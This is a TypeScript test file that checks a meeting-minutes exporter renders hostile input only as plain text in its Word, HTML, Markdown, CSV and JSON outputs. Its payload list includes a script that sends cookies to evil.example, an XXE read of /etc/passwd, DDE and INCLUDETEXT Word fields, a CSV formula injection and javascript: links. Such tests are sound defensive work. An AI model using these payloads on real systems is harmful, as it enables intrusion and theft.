import { describe, expect, it } from 'vitest'
import { readParagraph, writeParagraph } from '../../../core/contract/note-text.ts'
import { documentKinds } from '../../../core/contract/words.ts'
import { cleanText } from '../../../core/documents/clean-text.ts'
import { writeDocument, type WrittenFormat } from '../../../core/documents/write-document.ts'
import type { MeetingRecord, RecordItem } from '../../../core/minutes/record-types.ts'
import { recordHash } from '../../../core/minutes/record.ts'
import { jointItem, preferenceQuestion, withdrawnQuestion } from '../../support/fixture-joint.ts'
import { readCsv } from './read-csv.ts'
import { readDocx, wordsOf } from './read-docx.ts'
import { readHtml } from './read-html.ts'
import { meeting } from './written.ts'
import { attributeOf, elements } from './xml.ts'

const payloads = [
  '<script>fetch("http://evil.example/"+document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</title></style></textarea><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;b&#x3e;',
  '<![CDATA[<b>]]>',
  ']]></w:t></w:r></w:p><w:p><w:r><w:t>injected',
  '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  '<?xml version="1.0"?>',
  'javascript:alert(1)',
  '[click](javascript:alert(1)) ![x](http://evil.example/x.png)',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= 1 %>',
  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
  '{ INCLUDETEXT "http://evil.example/a.docx" }',
  "=cmd|' /C calc'!A0",
  '@import url(http://evil.example/x.css); } body { display: none',
  '\\"; } @page { size: 1px',
  '# heading\n\n| a | b |\n|---|---|\n```\n<b>\n```',
  '\u0000\u0001\u0008\u000b\u000c\u001b[31m\u007f\u0085\u009f',
  '\ud800 \udfff\ud83d',
  '\ufffe\uffff\ufeff',
  'abc\u202efdp.exe\u2066\u2067\u202a',
  'שלום עולם مرحبا بالعالم',
  '👩🏽‍🚀🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧 e\u0301\u0301\u0301\u0301',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  'x'.repeat(600),
  `${'word '.repeat(120)}end`,
  `a${' '.repeat(600)}b`,
  `a${'\t'.repeat(600)}b`,
  'line\r\nline\rline\nline\u2028line\u2029line',
  '\u00a0\u200b\u2060\u00ad',
  '__proto__',
  'constructor',
  '%s %n %x \\u0041 \\x41',
  '',
  ' ',
]

/** Votes on options, by preference and withdrawn, whose options are called by the payload. */
function poisonOptions(items: RecordItem[], payload: string): void {
  const at = items.findIndex(({ itemId }) => itemId === 'i6b')
  const item = items[at]
  if (item === undefined) throw new Error('the fixture has no such item')
  const joint = jointItem({ ...item, questions: [] })
  const call = (key: string) => ({ key, label: payload })
  const named = preferenceQuestion()
  for (const round of named.rounds) {
    round.rule = { ...round.rule, options: round.rule.options?.map(({ key }) => call(key)) }
    round.byOption = round.byOption?.map((option) => ({ ...option, label: payload })) ?? []
    for (const position of round.positions) {
      if (position.option !== undefined) position.option = call(position.option.key)
    }
  }
  items[at] = {
    ...joint,
    // One option is enough, and five take their time.
    questions: [
      ...joint.questions.slice(0, 4).map((question) => ({
        ...question,
        text: payload,
        joint: {
          jointVoteId: question.joint?.jointVoteId ?? '',
          option: call(question.joint?.option?.key ?? ''),
          objective: question.joint?.objective ? call(question.joint.objective.key) : null,
        },
      })),
      { ...named, text: payload },
      {
        ...withdrawnQuestion(),
        text: payload,
        withdrawn: { at: '2016-12-15T11:50:00.000+00:00', reason: payload },
      },
    ],
    jointVotes: (joint.jointVotes ?? []).map((vote) => ({
      ...vote,
      title: payload,
      baseline: payload,
      options: vote.options.map(({ key }) => call(key)),
      objectives: vote.objectives.map(({ key }) => call(key)),
      otherItems: [],
    })),
  }
}

/** A note as the editor saves it when this is typed: what would be markup is escaped. */
function typed(payload: string): string {
  return writeParagraph([{ kind: 'text', runs: [{ text: payload }] }])
}

/** A record that says the payload wherever a text can be written. */
function poisoned(payload: string): MeetingRecord {
  return meeting((record) => {
    const { heading, attendance, items, actions, nextMeeting } = record
    Object.assign(heading, { title: payload, place: payload })
    Object.assign(heading.body, { name: payload, shortName: payload })
    if (heading.code !== null) Object.assign(heading.code, { name: payload, shortName: payload })
    for (const constituency of attendance.constituencies) {
      Object.assign(constituency, { name: payload, shortName: payload })
      for (const seat of constituency.seats) {
        seat.seat = payload
        if (seat.member !== null) Object.assign(seat.member, { name: payload, organisation: payload })
        for (const one of seat.attendees) Object.assign(one, { name: payload, organisation: payload })
      }
    }
    for (const one of [...attendance.nonVoting, ...attendance.apologies]) {
      Object.assign(one, { initials: payload, name: payload, organisation: payload })
    }
    for (const carried of attendance.carriedVotes) Object.assign(carried, { seat: payload, note: payload })
    for (const item of items) {
      Object.assign(item, {
        title: payload,
        presenter: payload,
        outcomeReason: payload,
        lateAcceptance: payload,
      })
      if (item.proposal !== null)
        Object.assign(item.proposal, { title: payload, proposer: payload, stageDetail: payload })
      // One of each is enough, and sixty take their time.
      item.paragraphs = item.paragraphs.slice(0, 1).map(({ number }) => ({ number, text: typed(payload) }))
      for (const interest of item.interests) interest.text = payload
      for (const paper of item.papers) Object.assign(paper, { reference: payload, title: payload })
      for (const determination of item.determinations) determination.text = payload
      for (const question of item.questions) {
        question.text = payload
        if (question.determination !== null) question.determination.text = payload
        for (const round of question.rounds) {
          Object.assign(round, { supersededReason: payload, quorum: payload })
          for (const position of round.positions) {
            Object.assign(position, { initials: payload, seat: payload })
            if (position.constituency !== null) position.constituency.shortName = payload
            for (const correction of position.corrections) {
              Object.assign(correction, { reason: payload, correctedBy: payload })
            }
          }
        }
      }
    }
    poisonOptions(items, payload)
    for (const action of [...actions.raised, ...actions.carriedIn]) {
      Object.assign(action, {
        reference: payload,
        text: payload,
        owners: [payload, payload],
        dueMeeting: payload,
      })
    }
    for (const update of actions.updates) update.text = payload
    if (nextMeeting !== null) nextMeeting.place = payload
  })
}

const hashes = new WeakMap<MeetingRecord, string>()

async function write(record: MeetingRecord, document: (typeof documentKinds)[number], format: WrittenFormat) {
  // A record is written many times.
  const hash = hashes.get(record) ?? recordHash(record)
  hashes.set(record, hash)
  return writeDocument({ document, format, record, recordHash: hash, faces: [] })
}

const utf8 = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true })

describe.each(payloads.map((payload) => [JSON.stringify(payload.slice(0, 40)), payload] as const))(
  'with %s everywhere',
  (_name, payload) => {
    const record = poisoned(payload)
    // What a reader sees of it: the longest line, because a line end may part it.
    const seen = cleanText(payload)
      .split('\n')
      .reduce((longest, line) => (line.length > longest.length ? line : longest), '')

    it('Word opens the documents, and nothing in them is a field, a link or another file', async () => {
      for (const document of ['minutes', 'agenda'] as const) {
        const file = readDocx(await write(record, document, 'docx'))
        for (const name of file.parts.keys()) if (!name.endsWith('/')) file.xml(name)
        expect([...file.parts.keys()].filter((name) => /embeddings|media|altChunk/i.test(name))).toEqual([])
        for (const name of ['w:hyperlink', 'w:altChunk', 'w:object', 'w:fldSimple', 'w:instrText']) {
          expect(elements(file.body, name)).toEqual([])
        }
        for (const part of file.parts.keys()) {
          if (!part.endsWith('.rels')) continue
          for (const one of elements(file.xml(part), 'Relationship')) {
            expect(attributeOf(one, 'TargetMode')).not.toBe('External')
          }
        }
        if (document === 'minutes') expect(wordsOf(file.body)).toContain(seen)
      }
    })

    it('HTML and Markdown hold it as text', async () => {
      for (const document of documentKinds) {
        const html = utf8.decode(await write(record, document, 'html'))
        const { tags, texts } = readHtml(html)
        expect(
          tags.filter(({ name }) => ['script', 'img', 'svg', 'iframe', 'link', 'a'].includes(name)),
        ).toEqual([])
        if (document === 'minutes') expect(texts.join('\n')).toContain(seen)
        const markdown = utf8.decode(await write(record, document, 'md')).replaceAll('<br>', '')
        expect(markdown.replace(/\\[!-/:-@[-`{-~]/g, '')).not.toMatch(/[<&[]/)
      }
    })

    it('CSV and JSON read back', async () => {
      for (const document of documentKinds) {
        const [header = [], ...rows] = readCsv(utf8.decode(await write(record, document, 'csv')))
        for (const row of rows) expect(row).toHaveLength(header.length)
        const json = JSON.parse(utf8.decode(await write(record, document, 'json'))) as {
          record: MeetingRecord
        }
        expect(json.record.items[0]?.title).toBe(payload)
        expect(Object.keys(Object.prototype)).toEqual([])
      }
    })
  },
)

describe('a note that was written with marks, by a script or by somebody who means harm', () => {
  const raw = meeting(({ items }) => {
    for (const item of items) item.paragraphs = []
    items[0]!.paragraphs = payloads.map((text, index) => ({ number: index + 1, text }))
    items[0]!.paragraphs.push({
      number: 100,
      text: [
        ...['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', 'vbscript:x', '//evil.example'],
        ...['\\\\evil\\share', 'https://a"onmouseover="alert(1)', 'https://a<script>', 'java&#115;cript:x'],
      ]
        .map((address) => `[words](${address})`)
        .join('\n'),
    })
  })

  it('leads only where its links say, to http, https and mailto', async () => {
    const { tags } = readHtml(utf8.decode(await write(raw, 'minutes', 'html')))
    const links = tags.filter(({ name, isEnd }) => name === 'a' && !isEnd)
    expect(links.map(({ attributes }) => Object.fromEntries(attributes))).toEqual([
      { href: 'http://evil.example/x.png', rel: 'noopener noreferrer' },
    ])
    expect(tags.filter(({ name }) => ['script', 'img', 'svg', 'iframe'].includes(name))).toEqual([])
    const file = readDocx(await write(raw, 'minutes', 'docx'))
    const outside = elements(file.xml('word/_rels/document.xml.rels'), 'Relationship')
      .filter((one) => attributeOf(one, 'TargetMode') === 'External')
      .map((one) => attributeOf(one, 'Target'))
    expect(outside).toEqual(['http://evil.example/x.png'])
    const markdown = utf8.decode(await write(raw, 'minutes', 'md'))
    const bare = markdown.replace(/\\[!-/:-@[-`{-~]/g, '')
    expect(bare.match(/\[[^\]]*\]\([^)]*\)/g)).toEqual(['[x](http://evil.example/x.png)'])
    expect(bare.replaceAll('<br>', '')).not.toMatch(/[<&]/)
  })

  it('loses no word of it', async () => {
    const seen = readHtml(utf8.decode(await write(raw, 'minutes', 'html'))).texts.join('')
    for (const { text } of raw.items[0]!.paragraphs) {
      for (const block of readParagraph(text)) {
        for (const { text: words } of block.kind === 'text' ? block.runs : block.items.flat()) {
          for (const line of cleanText(words).split('\n')) expect(seen).toContain(line)
        }
      }
    }
  })
})

describe('a text of 30,000 characters in one paragraph', () => {
  it.each([
    ['blanks', ' '],
    ['tabs', '\t'],
    ['stops', '.'],
    ['quotation marks', '"'],
    ['line ends', '\n'],
    ['digits', '1'],
    ['marks of direction', '\u202e'],
    ['ticks', '✓'],
  ])('of %s is written in a few seconds', async (_name, character) => {
    const record = meeting(({ items, actions }) => {
      for (const item of items) item.paragraphs = []
      const text = `a${character.repeat(30_000)}b`
      Object.assign(items[0]!, { paragraphs: [{ number: 1, text }], outcomeReason: text })
      for (const action of actions.raised) action.text = text
    })
    const started = performance.now()
    for (const format of ['docx', 'html', 'md', 'csv'] as const) await write(record, 'minutes', format)
    await write(record, 'action-log', 'csv')
    // Some tenths of a second; where time grows with the square of the length it is minutes.
    expect(performance.now() - started).toBeLessThan(15_000)
  })
})
